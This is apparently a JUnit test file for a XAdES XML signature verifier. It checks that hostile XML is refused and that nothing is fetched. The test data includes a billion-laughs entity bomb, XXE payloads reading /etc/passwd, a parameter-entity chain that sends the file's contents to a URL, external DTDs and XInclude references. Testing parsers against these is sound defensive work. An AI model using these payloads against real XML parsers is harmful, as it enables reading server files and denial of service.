package org.fujie.pki.xades;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;

import org.apache.xml.security.signature.XMLSignature;
import org.apache.xml.security.transforms.Transforms;
import org.fujie.pki.pdf.PdfTestPki;
import org.fujie.pki.validation.Indication;
import org.fujie.pki.validation.Purpose;
import org.fujie.pki.validation.SubIndication;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.w3c.dom.Document;

/**
 * Hostile XML before any signature is looked at: entity expansion, external entities and DTDs, XInclude, nesting and size
 * beyond the limits, broken and empty input. Each is INDETERMINATE/FORMAT_FAILURE with the reason in the detail, and
 * nothing is fetched: the external names point at a local server that counts requests, and at /etc/passwd, whose first
 * line ("root:x:") must appear in no report.
 */
class XadesAttackParsingTests {

    private static final PdfTestPki PKI = XadesSignerTests.PKI;
    private static final HostileXml.Bait BAIT = bait();
    private static final String PASSWD_LINE = "root:x:";
    private static final String NO_DOCTYPE = "a DOCTYPE is not allowed (no DTDs, no entities)";

    private static HostileXml.Bait bait() {
        try {
            return new HostileXml.Bait("<r>fetched</r>");
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @AfterAll
    static void stopBait() {
        BAIT.close();
    }

    private static XmlReport verify(byte[] document) {
        return XadesVerifierTests.verifier(PKI).verify(document);
    }

    private static XadesVerifier verifier(XadesVerifierSettings settings) {
        return HostileXml.verifier(PKI, settings);
    }

    private static XadesVerifierSettings limits(int maxDocumentBytes, int maxDepth) {
        return new XadesVerifierSettings(maxDocumentBytes, maxDepth, 50, 30, 5, Set.of(), Purpose.DOCUMENT_SIGNING);
    }

    private static void assertUnreadable(XmlReport report, String reason) {
        assertThat(report.indication()).as(report.detail()).isEqualTo(Indication.INDETERMINATE);
        assertThat(report.subIndication()).isEqualTo(SubIndication.FORMAT_FAILURE);
        assertThat(report.detail()).contains(reason);
        assertThat(report.signatures()).isEmpty();
        assertThat(report.toString()).doesNotContain(PASSWD_LINE).doesNotContain("fetched");
    }

    static Stream<Arguments> doctypes() {
        String laughs = """
                <?xml version="1.0"?>
                <!DOCTYPE lolz [
                  <!ENTITY lol "lol">
                  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
                  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
                  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
                  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
                  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
                  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
                  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
                  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
                  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
                ]>
                <lolz>&lol9;</lolz>
                """;
        return Stream.of(
                Arguments.of("billion laughs", utf8(laughs)),
                Arguments.of("billion laughs in UTF-16", laughs.replace("<?xml version=\"1.0\"?>",
                        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>").getBytes(StandardCharsets.UTF_16)),
                Arguments.of("XXE to /etc/passwd", utf8("<?xml version=\"1.0\"?>\n"
                        + "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><r>&xxe;</r>")),
                Arguments.of("XXE over HTTP", utf8("<!DOCTYPE r [<!ENTITY xxe SYSTEM \"" + BAIT.url("/entity") + "\">]><r>&xxe;</r>")),
                Arguments.of("external parameter entity", utf8("<!DOCTYPE r [<!ENTITY % ext SYSTEM \"" + BAIT.url("/ext.dtd")
                        + "\"> %ext;]><r/>")),
                Arguments.of("parameter entity reading /etc/passwd", utf8("<!DOCTYPE r [<!ENTITY % p SYSTEM \"file:///etc/passwd\">"
                        + "<!ENTITY % wrap \"<!ENTITY leak SYSTEM '" + BAIT.url("/?%p;") + "'>\"> %wrap;]><r>&leak;</r>")),
                Arguments.of("external DTD", utf8("<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"" + BAIT.url("/r.dtd") + "\"><r/>")),
                Arguments.of("public external DTD", utf8("<!DOCTYPE r PUBLIC \"-//Evil//DTD//EN\" \"" + BAIT.url("/p.dtd")
                        + "\"><r/>")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("doctypes")
    void verifyWhenDoctypeThenIndeterminateFormatFailureAndNothingExpandedOrFetched(String attack, byte[] document) {
        int before = BAIT.requests();

        XmlReport report = verify(document);

        assertUnreadable(report, NO_DOCTYPE);
        assertThat(report.detail()).doesNotContain("not well-formed");
        assertThat(BAIT.requests()).as("requests to the bait").isEqualTo(before);
    }

    /**
     * XInclude is not processed: a signature over a document holding xi:include elements (to the bait and to /etc/passwd)
     * verifies over the elements as they are. Had the parser included the text, the digest would no longer match and the
     * bait would have been asked.
     */
    @Test
    void verifyWhenXIncludeThenLeftAsAnUnprocessedElementAndNothingFetched() throws Exception {
        Document document = HostileXml.parse("""
                <r xmlns="urn:fujie:test:include" xmlns:xi="http://www.w3.org/2001/XInclude">
                  <xi:include href="%s" parse="text"/>
                  <xi:include href="file:///etc/passwd" parse="text"/>
                </r>""".formatted(BAIT.url("/include")));
        XMLSignature signature = HostileXml.newSignature(document);
        document.getDocumentElement().appendChild(signature.getElement());
        HostileXml.addReference(signature, "", HostileXml.transforms(document, Transforms.TRANSFORM_ENVELOPED_SIGNATURE,
                Transforms.TRANSFORM_C14N_EXCL_OMIT_COMMENTS));
        HostileXml.sign(signature, PKI);
        byte[] signed = HostileXml.bytes(document);
        int before = BAIT.requests();

        XmlReport report = verify(signed);
        Document parsed = XadesVerifierSettings.defaults().parser().parse(signed);

        assertThat(report.indication()).as(report.detail()).isEqualTo(Indication.TOTAL_PASSED);
        assertThat(report.signatures().get(0).signedScopes()).containsExactly("the whole document, less its signatures");
        assertThat(parsed.getElementsByTagNameNS("http://www.w3.org/2001/XInclude", "include").getLength()).isEqualTo(2);
        assertThat(parsed.getDocumentElement().getTextContent()).doesNotContain(PASSWD_LINE).doesNotContain("fetched");
        assertThat(report.toString()).doesNotContain(PASSWD_LINE);
        assertThat(BAIT.requests()).as("requests to the bait").isEqualTo(before);
    }

    @Test
    void verifyWhenNestedDeeperThanMaxDepthThenIndeterminateFormatFailure() {
        XadesVerifier shallow = verifier(limits(64 * 1024, 8));

        XmlReport eight = shallow.verify(nested(8));
        XmlReport nine = shallow.verify(nested(9));

        // eight levels parse (and hold no signature); the ninth is refused by the parser
        assertUnreadable(eight, "the XML document holds no ds:Signature");
        assertUnreadable(nine, "the XML document nests elements deeper than 8 (line 1");
    }

    @Test
    void verifyWhenDeeplyNestedWithDefaultLimitsThenIndeterminateFormatFailureAndNoStackOverflow() {
        XmlReport report = verify(nested(100_000));

        assertUnreadable(report, "the XML document nests elements deeper than 256");
    }

    @Test
    void verifyWhenLargerThanMaxDocumentBytesThenIndeterminateFormatFailure() {
        XadesVerifier small = verifier(limits(1024, 256));
        byte[] exactly = sized(1024);
        byte[] larger = sized(1025);

        assertUnreadable(small.verify(exactly), "the XML document holds no ds:Signature");
        assertUnreadable(small.verify(larger), "the XML document is larger than 1024 bytes");
        assertUnreadable(small.verify(exactly, Map.of("data.bin", new byte[1025])), "detached data is larger than 1024 bytes");
    }

    @Test
    void verifyWhenMoreSignaturesThanMaxSignaturesThenIndeterminateFormatFailure() {
        String ds = "xmlns:ds=\"" + XadesNames.DS + "\"";
        XmlReport fifty = verify(utf8("<r " + ds + ">" + "<ds:Signature/>".repeat(50) + "</r>"));
        XmlReport fiftyOne = verify(utf8("<r " + ds + ">" + "<ds:Signature/>".repeat(51) + "</r>"));

        // fifty are each examined (and fail: no SignedInfo); the fifty-first stops the document before any is
        assertThat(fifty.signatures()).hasSize(50);
        assertThat(fifty.detail()).isEqualTo("signature S-1: the signature has no SignedInfo");
        assertUnreadable(fiftyOne, "the document holds 51 signatures, more than 50");
    }

    static Stream<Arguments> broken() {
        return Stream.of(
                Arguments.of("mismatched tags", utf8("<a><b></a>"), "not well-formed XML (line 1"),
                Arguments.of("two root elements", utf8("<a/><b/>"), "not well-formed XML (line 1"),
                Arguments.of("truncated", utf8("<a xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"><ds:Signature>"),
                        "not well-formed XML"),
                Arguments.of("undeclared prefix", utf8("<ds:Signature/>"), "not well-formed XML"),
                Arguments.of("not XML at all", utf8("%PDF-1.7\n%âãÏÓ\n"), "not well-formed XML"),
                Arguments.of("empty", new byte[0], "the XML document is empty"),
                Arguments.of("white space only", utf8(" \n\t "), "the XML document is empty"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("broken")
    void verifyWhenNotWellFormedOrEmptyThenIndeterminateFormatFailure(String input, byte[] document, String reason) {
        assertUnreadable(verify(document), reason);
    }

    /** {@code depth} nested elements. */
    private static byte[] nested(int depth) {
        return utf8("<e>".repeat(depth) + "</e>".repeat(depth));
    }

    /** A well-formed document of exactly {@code size} bytes. */
    private static byte[] sized(int size) {
        byte[] document = new byte[size];
        Arrays.fill(document, (byte) 'x');
        byte[] open = utf8("<r>");
        byte[] close = utf8("</r>");
        System.arraycopy(open, 0, document, 0, open.length);
        System.arraycopy(close, 0, document, size - close.length, close.length);
        return document;
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
